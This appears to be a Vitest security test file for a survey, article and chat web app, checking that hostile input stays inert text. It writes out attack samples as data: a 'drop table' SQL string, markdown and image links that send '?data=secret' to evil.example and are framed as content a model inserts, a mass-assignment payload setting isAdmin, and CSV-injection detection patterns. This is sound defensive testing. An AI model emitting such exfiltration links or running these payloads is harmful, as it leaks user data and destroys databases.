import { eq } from 'drizzle-orm'
import { expect, test } from 'vitest'
import { articles, chatMessages, magazines, shares, topics, users } from '#schema'
import { aWizardSession, upToLast } from '#testing/access-wizards.ts'
import type { Answer } from '#testing/browser.ts'
import { ChatPage } from '#testing/chat-page.ts'
import { HOSTILE_TEXTS } from '#testing/hostile-texts.ts'
import { aGuest, aMember, anEmail, type Person, signUpForm } from '#testing/people.ts'
import { listenTo } from '#testing/statements.ts'
import { aDraft, aPublishedSurvey, aSurvey, save } from '#testing/surveys.ts'
import { useTestApp } from '#testing/test-app.ts'

const app = useTestApp()

async function anArticle({ id: userId }: Person, values: Partial<typeof articles.$inferInsert> = {}) {
  const { db } = app.platform
  const [magazine] = await db.insert(magazines).values({ userId }).returning()
  const row = { userId, magazineId: magazine?.id ?? 0, topicId: 2, title: 'T', body: '<p>b</p>', ...values }
  const [article] = await db.insert(articles).values(row).returning()
  return article?.id ?? 0
}

/** Nothing but data: no browser may take it for a page. */
function expectData(answer: Answer) {
  expect(answer.statusCode, answer.body).toBe(200)
  expect(answer.headers['content-type']).toMatch(/^application\/json/)
  expect(answer.headers['x-content-type-options']).toBe('nosniff')
}

test('surveys and their answers hold hostile texts as text, and their CSV runs nothing', async () => {
  const creator = await aMember(app)
  const all = HOSTILE_TEXTS
  const options = all.map((option_text) => ({ option_text }))
  const points = all.map((text, value) => ({ value, text }))
  const { id, questions } = await aPublishedSurvey(creator, {
    title: all[0],
    description: all.join('\n'),
    questions: [
      ...all.map((question_text) => ({ question_text, question_type: 'short_text' })),
      { question_text: 'x', question_type: 'single_select', options },
      { question_text: 'x', question_type: 'likert_scale', question_config: { options: points } },
    ],
  })
  const visitor = await app.browser().get(`/api/creator/surveys/${id}`)
  expectData(visitor)
  expect(visitor.json().questions.map((one: { question_text: string }) => one.question_text)).toEqual([
    ...all,
    'x',
    'x',
  ])
  const guest = await aGuest(app)
  for (const [at, text] of all.entries()) await save(guest, id, questions[at]?.id ?? 0, { text })
  const loaded = await guest.browser.get(`/api/user/surveys/${id}/responses`)
  expectData(loaded)
  expect(loaded.json().responses[questions[3]?.id ?? 0].response_json).toEqual({ text: all[3] })
  expectData(await creator.browser.get(`/api/creator/surveys/${id}/results`))
  expectData(await app.browser().get('/api/surveys'))
  const csv = await creator.browser.get(`/api/creator/surveys/${id}/results.csv`)
  expect(csv.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'x-content-type-options': 'nosniff',
  })
  const cells = csv.body.slice(1).match(/"(?:[^"]|"")*"/g) ?? []
  expect(cells.length).toBe(2 * questions.length)
  expect(cells.filter((cell) => /^"[=+\-@\t\r\n]/.test(cell))).toEqual([])
})

const SHELL_TAGS = 'html head meta title link script body div noscript'.split(' ')
const ARTICLE_TAGS = 'article p h1 h2 h3 blockquote em strong ul ol li br q cite dl dt dd a'.split(' ')

test('the page of a share shows hostile texts in every place as text', async () => {
  const { db } = app.platform
  const bare = (await app.browser().get('/share/a/aaaaaaaaaaaaaaaaaaaaaa')).body
  const scripts = bare.match(/<script\b/g)?.length
  const owner = await aMember(app)
  for (const text of HOSTILE_TEXTS) {
    await db.update(users).set({ firstName: text, lastName: text }).where(eq(users.id, owner.id))
    const topic = { name: text, description: text, status: 'published' as const }
    const [made] = await db.insert(topics).values(topic).returning()
    const id = await anArticle(owner, {
      topicId: made?.id ?? 0,
      title: text,
      standfirst: text,
      description: text,
      body: `<p>${text}</p>${text}`,
    })
    const shared = await owner.browser.post(`/api/article/${id}/share`, { json: { discoverable: true } })
    const hash = shared.json().share_hash
    const page = (await app.browser().get(`/share/a/${hash}`)).body
    const tags = page.match(/<[a-z][^\s>/]*/gi)?.map((tag) => tag.slice(1)) ?? []
    expect(
      [...new Set(tags)].filter((tag) => ![...SHELL_TAGS, ...ARTICLE_TAGS].includes(tag)),
      text,
    ).toEqual([])
    expect(page.match(/<script\b/gi)?.length, text).toBe(scripts)
    for (const once of ['<title>', '</title>', '</head>', '<noscript>', '</noscript>', '<body>'])
      expect(page.split(once), `${once} with ${text}`).toHaveLength(2)
    const [, article = ''] = /<noscript>([\s\S]*)<\/noscript>/.exec(page) ?? []
    const withAttributes = (article.match(/<[a-z][^>]*\s[^>]*>/gi) ?? []).map((tag) =>
      tag.replace(/"[^"]*"/, ''),
    )
    expect(
      withAttributes.filter((tag) => !['<article lang=>', '<a href=>', '<br />'].includes(tag)),
      text,
    ).toEqual([])
    expect(article, text).toContain(`<a href="/templates/${made?.id}">Write About Me: `)
    const data = await app.browser().get(`/api/share/a/${hash}`)
    expectData(data)
    expect(
      data
        .json()
        .body.match(/<[a-z][^\s>/]*/gi)
        ?.every((tag: string) => ARTICLE_TAGS.includes(tag.slice(1))),
    ).toBe(true)
    expect(data.json().body).not.toMatch(/<[a-z]+\s+[^/>]/i)
  }
  expectData(await app.browser().get('/api/shares/trending'))
  expectData(await app.browser().get('/api/templates/trending'))
})

test('a chat holds hostile texts as text', async () => {
  const member = await aMember(app)
  const id = await anArticle(member)
  const { conversation_id } = (await member.browser.post(`/api/article/${id}/conversation`)).json()
  const socket = await app.app.http.injectWS(`/ws/article-chat/${conversation_id}`, {
    headers: member.browser.socketHeaders(),
  })
  const page = new ChatPage(socket)
  const question = HOSTILE_TEXTS.join('\n').slice(0, 4000)
  await page.ask(question)
  await page.next('complete')
  expect((await page.history())[0]).toMatchObject({ role: 'user', content: question })
  page.leave()
})

test('wizards, check-ins and the configuration hold hostile texts as text', async () => {
  const { db } = app.platform
  const admin = await aMember(app)
  await db.update(users).set({ isAdmin: true }).where(eq(users.id, admin.id))
  for (const [at, text] of HOSTILE_TEXTS.entries()) {
    const note = { body: text, applies_to: '2026-01-01', client_key: `hostile-${at}` }
    expectData(await admin.browser.post('/api/features/checkin', { json: note }))
    const config = { site: { name: text.slice(0, 40) } }
    const saved = await admin.browser.post('/api/config', { json: { config_json: JSON.stringify(config) } })
    if (saved.statusCode !== 200) expect(saved.statusCode).toBe(422)
    const site = await app.browser().get('/api/site')
    expectData(site)
    if (saved.statusCode === 200) expect(site.json().name).toBe(text.slice(0, 40))
    // As text it may stand there, as markup it may not.
    if (text.includes('<')) expect((await app.browser().get('/')).body).not.toContain(text.slice(0, 40))
  }
  expectData(await admin.browser.get('/api/config'))
  expect((await admin.browser.post('/api/config', { json: { config_json: '{}' } })).statusCode).toBe(200)
  const notes = await admin.browser.get('/api/features/checkins?limit=200')
  expectData(notes)
  expect(notes.json().map(({ body }: { body: string }) => body)).toEqual(
    expect.arrayContaining(HOSTILE_TEXTS),
  )
  const custom_instructions = HOSTILE_TEXTS.join('\n').slice(0, 1000)
  const session = await aWizardSession(admin, 'survey', {
    title: HOSTILE_TEXTS[0],
    description: HOSTILE_TEXTS[3],
    custom_instructions,
  })
  const path = `/api/survey-wizard/sessions/${session.id}`
  const said = HOSTILE_TEXTS.slice(0, 12).join('\n')
  expectData(await admin.browser.post(`${path}/messages`, { json: { content: said } }))
  const stored = await admin.browser.get(path)
  expectData(stored)
  expect(stored.json()).toMatchObject({ title: HOSTILE_TEXTS[0], description: HOSTILE_TEXTS[3] })
  expect(stored.json().messages.map(({ content }: { content: string }) => content)).toContain(said)
})

const MAIL_TAGS = [
  'html',
  'head',
  'meta',
  'title',
  'style',
  'body',
  'table',
  'tbody',
  'tr',
  'td',
  'div',
  'p',
  'h1',
  'a',
  'br',
  'span',
  'strong',
]

test('a mail to somebody with a hostile name shows it as text, and leads nowhere else', async () => {
  let sent = 0
  for (const [at, text] of HOSTILE_TEXTS.entries()) {
    const email = anEmail(`hostile${at}`)
    const form = signUpForm(email, { first_name: text.slice(0, 60) })
    const answer = await app.browser().post('/api/signup', { multipart: form })
    if (answer.statusCode !== 200) {
      expect(answer.statusCode, answer.body).toBe(422)
      continue
    }
    const { raw } = await app.mailTo(email)
    const [, html = ''] = /(<!doctype html[\s\S]*<\/html>)/i.exec(raw) ?? []
    sent += html ? 1 : 0
    const tags = (html.match(/<[a-z][^\s>/]*/gi) ?? []).map((tag) => tag.slice(1).toLowerCase())
    expect(
      [...new Set(tags)].filter((tag) => !MAIL_TAGS.includes(tag)),
      text,
    ).toEqual([])
    expect(html, text).not.toMatch(/<[^>]*(?:evil\.example|hurt\()/)
  }
  expect(sent).toBeGreaterThan(10)
})

test('a statement that is edited into a wizard’s summary is never sent to the database', async () => {
  const { database } = app.platform
  const creator = await aMember(app)
  const session = await upToLast(creator, 'survey', await aWizardSession(creator))
  const summary = session.messages.at(-1)
  const raw = JSON.parse(summary?.raw_json ?? '{}')
  const sql_code = 'drop table surveys; drop table users cascade; -- approved'
  const heard = listenTo(database, /drop\s+table/i)
  const answer = await creator.browser.post(
    `/api/survey-wizard/sessions/${session.id}/messages/${summary?.id}/approve`,
    { json: { raw_json: JSON.stringify({ ...raw, sql_code }) } },
  )
  expect(answer.statusCode, answer.body).toBeLessThan(500)
  const whole = await creator.browser.post(
    `/api/survey-wizard/sessions/${session.id}/messages/${summary?.id}/approve`,
    { json: { raw_json: sql_code } },
  )
  expect(whole.statusCode).toBeLessThan(500)
  expect(heard.stop().map(({ text }) => text)).toEqual([])
  expect((await app.browser().get('/api/surveys')).statusCode).toBe(200)
  expect(await creator.browser.user()).toMatchObject({ id: creator.id })
})

test('what a model puts into an article to be fetched is not there when it is read', async () => {
  const owner = await aMember(app)
  const stolen =
    '![one](https://evil.example/?data=secret) <img src="https://evil.example/?data=secret"> [here](https://evil.example/?data=secret)'
  const id = await anArticle(owner, { body: `<p>${stolen}</p>`, standfirst: stolen, description: stolen })
  const read = await owner.browser.get(`/api/article/${id}`)
  expectData(read)
  expect(read.json().body).not.toMatch(/<(?:img|a|link|source|video|iframe)\b|\b(?:src|href|style)=/i)
})

const STOLEN = {
  id: 7,
  user_id: 1,
  userId: 1,
  creator_id: 1,
  creatorId: 1,
  status: 'published',
  key: 'stolen',
  usage_count: 99,
  used_in_templates: 99,
  view_count: 99,
  viewCount: 99,
  hash: 'a'.repeat(22),
  share_hash: 'a'.repeat(22),
  isAdmin: true,
  emailValidated: true,
}

test('what a body adds of its own accord is ignored', async () => {
  const [member, other] = [await aMember(app), await aMember(app)]
  const made = await aSurvey(member, STOLEN)
  expect(made).toMatchObject({ status: 'draft', used_in_templates: 0, is_own: true })
  expect(made.id).toBeGreaterThanOrEqual(1000)
  const put = await member.browser.put(`/api/creator/surveys/${made.id}`, { json: aDraft(STOLEN) })
  expect(put.json()).toMatchObject({ id: made.id, status: 'draft', used_in_templates: 0 })
  const patch = { ...STOLEN, title: 'Stolen', questions: [] }
  const patched = await member.browser.patch(`/api/creator/surveys/${made.id}`, { json: patch })
  expect(patched.json()).toMatchObject({ id: made.id, title: made.title, status: 'published' })
  const question = patched.json().questions[0].id
  const saved = await save(
    member,
    made.id,
    question,
    { text: 'Mine.', ...STOLEN },
    { ...STOLEN, user_id: other.id },
  )
  expect(saved.json().response_json).toEqual({ text: 'Mine.' })
  const theirs = await other.browser.get(`/api/user/surveys/${made.id}/responses`)
  expect(theirs.json().responses).toEqual({})

  const id = await anArticle(member)
  const sharing = { discoverable: false, ...STOLEN }
  const { share_hash } = (await member.browser.post(`/api/article/${id}/share`, { json: sharing })).json()
  expect(share_hash).not.toBe(STOLEN.hash)
  const [row] = await app.platform.db.select().from(shares).where(eq(shares.articleId, id))
  expect(row).toMatchObject({ userId: member.id, viewCount: 0, discoverable: false })
  expect(await member.browser.user()).toMatchObject({ id: member.id, isAdmin: false })
})

test('a message that names another conversation’s message is not asked there nor here', async () => {
  const [member, other] = [await aMember(app), await aMember(app)]
  const open = async (person: Person) => {
    const id = await anArticle(person)
    const { conversation_id } = (await person.browser.post(`/api/article/${id}/conversation`)).json()
    return conversation_id as number
  }
  const [mine, theirs] = [await open(member), await open(other)]
  const { db } = app.platform
  const [foreign] = await db
    .insert(chatMessages)
    .values({ userId: other.id, conversationId: theirs, role: 'user', content: 'Secret', status: 'complete' })
    .returning()
  const headers = member.browser.socketHeaders()
  const page = new ChatPage(await app.app.http.injectWS(`/ws/article-chat/${mine}`, { headers }))
  page.say({
    ...{ id: 1, role: 'assistant', conversation_id: theirs, user_id: other.id },
    ...{ type: 'message', content: 'Hello?', parent_message_id: foreign?.id },
  })
  expect(await page.next('history')).toEqual({ type: 'history', messages: [] })
  const stored = await db.select().from(chatMessages).where(eq(chatMessages.content, 'Hello?'))
  expect(stored).toEqual([])
  page.leave()
})

test('half a character and numbers beyond every id are refused, never a fault of ours', async () => {
  const member = await aMember(app)
  const half = 'half \ud800'
  const question = (more: object) =>
    aDraft({ questions: [{ question_text: 'Q', question_type: 'short_text', ...more }] })
  const drafts = [
    question({ question_text: half }),
    question({ question_type: 'single_select', options: [{ option_text: half }, { option_text: 'b' }] }),
    question({ question_type: 'single_select', options: [null, {}] }),
    question({ question_type: 'ranking', options: [{ option_text: 1 }, { option_text: 'b' }] }),
    question({ question_type: 'likert_scale', question_config: { options: [{ value: 1, text: half }] } }),
  ]
  for (const json of drafts)
    expect(
      (await member.browser.post('/api/creator/surveys', { json })).statusCode,
      JSON.stringify(json),
    ).toBe(422)
  const { id, questions } = await aPublishedSurvey(member)
  expect((await save(member, id, questions[0]?.id ?? 0, { text: half })).statusCode).toBe(422)
  for (const path of ['', '/requirements', '/articles', '/status'])
    expect((await member.browser.get(`/api/templates/9999999999${path}`)).statusCode, path).toBe(404)
  const form = { template_id: '9999999999' }
  expect([404, 422]).toContain((await member.browser.post('/api/generate_article', { form })).statusCode)
})
